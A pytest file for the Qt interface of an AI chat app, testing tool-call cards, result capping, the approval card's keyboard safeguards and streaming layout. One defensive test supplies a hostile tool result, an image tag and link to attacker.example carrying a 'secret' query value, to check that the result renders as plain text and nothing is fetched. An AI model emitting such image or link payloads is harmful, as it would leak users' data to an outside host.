"""Tool cards and the approval card on their own: how a reply's parts become steps, the words
a card uses, results shown as plain text and capped, the approval card's keys (not armed at
once, auto-repeat ignored, Return on a focused button is that button, Esc kept from the
window's shortcut), huge arguments capped, and a streaming reply that keeps its cards while
its answer streams below them (counted, not timed)."""

from __future__ import annotations

import json
import time

import pytest
from PySide6.QtCore import QEvent, Qt
from PySide6.QtGui import QAction, QKeyEvent, QKeySequence
from PySide6.QtWidgets import QApplication, QVBoxLayout, QWidget
from pytestqt.qtbot import QtBot

from kibitz.core.tools import Approval, PendingCall, ToolSpec
from kibitz.core.types import (
    ConversationId,
    ImagePart,
    Message,
    MessageId,
    MessageStatus,
    Part,
    ReasoningPart,
    Role,
    TextPart,
    ToolCallPart,
    ToolResultPart,
    ToolStatus,
)
from kibitz.ui.views import tool_approval
from kibitz.ui.views.message_html import BREAK
from kibitz.ui.views.message_widget import MessageWidget
from kibitz.ui.views.reply_layout import (
    CallPhase,
    CardState,
    LiveCall,
    TextStep,
    ToolStep,
    reply_layout,
)
from kibitz.ui.views.text_box import TextBox
from kibitz.ui.views.tool_approval import ToolApprovalCard
from kibitz.ui.views.tool_card import ToolCallCard
from kibitz.ui.views.tool_text import (
    SHOWN_ARGUMENTS_CHARS,
    SHOWN_RESULT_CHARS,
    arguments_summary,
    duration_text,
    pretty_arguments,
    status_text,
)

CALL = ToolCallPart("c1", "lookup", '{"key": "x"}', "notes", "lookup")
SPEC = ToolSpec("notes", "lookup", "lookup", "Look a key up.", read_only=True)


def image(blob: str) -> ImagePart:
    return ImagePart(blob, f"{blob}.png", "image/png", 10, 4, 4)


def reply(parts: tuple[Part, ...], status: MessageStatus = MessageStatus.COMPLETE) -> Message:
    return Message(
        MessageId(2), ConversationId(1), MessageId(1), Role.ASSISTANT, status, 0.0, 0.0, parts
    )


# -- steps and words -------------------------------------------------------------------------------


def test_a_reply_is_laid_out_in_the_order_it_happened() -> None:
    second = ToolCallPart("c2", "image", "{}", "notes", "image")
    parts: tuple[Part, ...] = (
        ReasoningPart("hmm"),
        TextPart("Looking."),
        CALL,
        second,
        ToolResultPart("c1", "value of x", seconds=0.2),
        ToolResultPart("c2", "an image", seconds=0.1),
        image("b1"),
        TextPart("Here."),
        TextPart("And more."),
    )
    layout = reply_layout(parts)
    assert layout.steps == (
        TextStep("Looking."),
        ToolStep(CALL, parts[4], ()),  # type: ignore[arg-type]
        ToolStep(second, parts[5], (image("b1"),)),  # type: ignore[arg-type]
    )
    assert layout.answer == "Here.\n\nAnd more."
    assert layout.answer_start == 7
    assert layout.tool_images == frozenset({"b1"})


def test_the_answer_starts_again_after_each_round_and_a_stray_result_is_left_out() -> None:
    calling = reply_layout((TextPart("Let me see."), CALL))
    assert (calling.answer, calling.answer_start) == ("", 2)
    assert calling.steps == (TextStep("Let me see."), ToolStep(CALL))
    stray = reply_layout((ToolResultPart("nobody", "orphan"), TextPart("Hi.")))
    assert stray.steps == ()
    assert (stray.answer, stray.answer_start) == ("Hi.", 1)


def test_the_words_of_a_card() -> None:
    assert arguments_summary('{"query": "launch", "limit": 5}') == 'query: "launch", limit: 5'
    assert arguments_summary("not json at all") == "not json at all"
    assert arguments_summary("") == ""
    assert len(arguments_summary(json.dumps({"text": "word " * 500}))) <= 240
    assert pretty_arguments('{"a": [1, 2]}') == '{\n  "a": [\n    1,\n    2\n  ]\n}'
    assert pretty_arguments("{broken") == "{broken"
    assert pretty_arguments("") == "{}"
    assert [duration_text(s) for s in (0.004, 0.42, 12.4, 125)] == [
        "4 ms",
        "0.4 s",
        "12 s",
        "2 min 5 s",
    ]
    assert status_text(CardState.DONE, 0.42) == "Done in 0.4 s"
    assert status_text(CardState.FAILED, None) == "Failed"
    assert status_text(CardState.RUNNING, 2.1) == "Running… 2.1 s"
    assert status_text(CardState.ASKING, None) == "Waiting for approval"


# -- the call card ---------------------------------------------------------------------------------


def test_a_result_is_plain_text_never_markup_and_nothing_is_fetched(qtbot: QtBot) -> None:
    hostile = (
        '<img src="http://attacker.example/x.png?q=secret"> [click](http://attacker.example) '
        "**bold**"
    )
    card = ToolCallCard(ToolStep(CALL, ToolResultPart("c1", hostile, seconds=0.3)))
    qtbot.addWidget(card)
    card.show()
    assert card.status == "Done in 0.3 s"
    card.set_open(True)
    assert card.result_text() == hostile
    assert card.arguments_text() == '{\n  "key": "x"\n}'
    for box in card.findChildren(TextBox):
        assert "<img" not in box.document().toHtml(), "shown as text, never as an image"
        assert "<a " not in box.document().toHtml(), "no link either"


def test_a_long_result_shows_its_start_and_show_all_shows_the_rest(qtbot: QtBot) -> None:
    text = "".join(f"line {i:06d} of a long result\n" for i in range(20_000))
    card = ToolCallCard(ToolStep(CALL, ToolResultPart("c1", text, seconds=1.5)))
    qtbot.addWidget(card)
    card.set_open(True)
    shown = card.result_text()
    assert len(shown) <= SHOWN_RESULT_CHARS
    assert text.startswith(shown)
    assert card.result_note() == f"Showing {len(shown):,} of {len(text):,} characters."


def test_a_running_call_shows_its_clock_and_a_stopped_one_was_not_run(qtbot: QtBot) -> None:
    card = ToolCallCard(ToolStep(CALL))
    qtbot.addWidget(card)
    card.set_step(
        ToolStep(CALL), LiveCall(CallPhase.RUNNING, time.monotonic() - 3.2), streaming=True
    )
    assert card.state is CardState.RUNNING
    assert card.status.startswith("Running… 3.")
    card.set_step(ToolStep(CALL), None, streaming=False)
    assert (card.state, card.status) == (CardState.NOT_RUN, "Not run")
    denied = ToolResultPart("c1", "declined", True, ToolStatus.DENIED)
    card.set_step(ToolStep(CALL, denied), None, streaming=False)
    assert card.status == "Declined"


# -- the approval card -----------------------------------------------------------------------------


@pytest.fixture
def host(qtbot: QtBot) -> QWidget:
    """A window whose Esc shortcut must not fire while the card has the focus."""
    window = QWidget()
    window.setLayout(QVBoxLayout())
    qtbot.addWidget(window)
    return window


def card_in(host: QWidget, qtbot: QtBot, pending: PendingCall, **kwargs: bool) -> ToolApprovalCard:
    card = ToolApprovalCard(pending, offer_always=kwargs.get("offer_always", True), parent=host)
    host.layout().addWidget(card)  # type: ignore[union-attr]
    host.show()
    qtbot.waitExposed(host)
    host.activateWindow()
    qtbot.waitUntil(card.hasFocus)
    return card


def test_keys_answer_only_once_the_card_is_armed(
    host: QWidget, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    stopped: list[bool] = []
    stop = QAction("Stop the reply", host)
    stop.setShortcut(QKeySequence(Qt.Key.Key_Escape))
    stop.setShortcutContext(Qt.ShortcutContext.WindowShortcut)
    stop.triggered.connect(lambda: stopped.append(True))
    host.addAction(stop)
    monkeypatch.setattr(tool_approval, "ARMING_S", 60.0)
    card = card_in(host, qtbot, PendingCall("c1", SPEC, {"key": "x"}, '{"key": "x"}'))
    answers: list[Approval] = []
    card.answered.connect(answers.append)
    qtbot.keyClick(card, Qt.Key.Key_Return)
    assert answers == [], "a Return typed as the card appears is not an answer"
    monkeypatch.setattr(tool_approval, "ARMING_S", 0.0)
    held = QKeyEvent(
        QEvent.Type.KeyPress, Qt.Key.Key_Return, Qt.KeyboardModifier.NoModifier, "\r", True
    )
    QApplication.sendEvent(card, held)
    assert answers == [], "a held key is not an answer"
    qtbot.keyClick(card, Qt.Key.Key_Escape)
    assert answers == [Approval.DENY]
    assert stopped == [], "Esc was the card's, not the window's"
    qtbot.keyClick(card, Qt.Key.Key_Return)
    assert answers == [Approval.DENY], "the first answer stands"


def test_return_on_a_focused_button_is_that_button(
    host: QWidget, qtbot: QtBot, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setattr(tool_approval, "ARMING_S", 0.0)
    card = card_in(host, qtbot, PendingCall("c1", SPEC, {"key": "x"}, '{"key": "x"}'))
    answers: list[Approval] = []
    card.answered.connect(answers.append)
    card.allow_always.setFocus()
    qtbot.keyClick(card.allow_always, Qt.Key.Key_Return)
    assert answers == [Approval.ALWAYS_ALLOW]


def test_huge_arguments_are_shown_plain_and_capped(host: QWidget, qtbot: QtBot) -> None:
    arguments = json.dumps({"text": "x" * 2_000_000})
    spec = ToolSpec("notes", "delete_note", "delete_note", destructive=True)
    card = card_in(host, qtbot, PendingCall("c1", spec, {}, arguments), offer_always=False)
    shown = card.arguments.toPlainText().replace(BREAK, "")
    assert len(shown) < SHOWN_ARGUMENTS_CHARS + 1_000
    assert "Showing" in shown
    assert card.destructive_note.isVisibleTo(card)
    assert not card.allow_always.isVisibleTo(card)


# -- a reply streaming with its cards --------------------------------------------------------------


def test_the_answer_streams_below_the_cards_without_making_them_again(qtbot: QtBot) -> None:
    result = ToolResultPart("c1", "value of x", seconds=0.2)
    parts: tuple[Part, ...] = (TextPart("Looking."), CALL, result)
    widget = MessageWidget(reply(parts, MessageStatus.STREAMING), width=600)
    qtbot.addWidget(widget)
    steps = widget.steps_view
    assert steps is not None
    (card,) = steps.cards()
    assert steps.texts() == ["Looking."]
    answer = ""
    for i in range(200):
        answer += f"word{i} "
        widget.set_message(reply((*parts, TextPart(answer)), MessageStatus.STREAMING))
        assert steps.cards() == [card]
    assert widget.plain_text().strip() == answer.strip()
    assert steps.texts() == ["Looking."], "the text before the call was rendered once"
    widget.set_message(reply((*parts, TextPart(answer))))
    assert steps.cards() == [card]
    assert card.state is CardState.DONE
    assert widget.plain_text().strip() == answer.strip()
